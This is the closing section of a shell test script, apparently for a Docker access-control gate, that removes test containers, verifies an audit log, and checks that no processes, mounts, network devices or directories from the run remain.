docker rm -f cgsd-cap >/dev/null 2>&1

check "no denied request left a container behind" test "$(docker ps -aq | wc -l)" = "$before"
docker rm -f cgsd-hostnet cgsd-mnt >/dev/null 2>&1
check "audit log verifies" "$BIN" audit verify "$D/log/audit.log"

# Leave nothing behind: every process we started is gone, nothing stays mounted.
cleanup
check "no dockerd, containerd, shim, plugin or cisgate of this run is left" no_procs
check "nothing of this run is left mounted" no_mounts
{ pgrep -af "$D/"; grep "$D" /proc/mounts; } | sed 's/^/     left: /'
check "no swarm network device is left" no_gwbridge
check "its directories are removed" test ! -e "$D" -a ! -e "$W" -a ! -e "$DATA"
summary
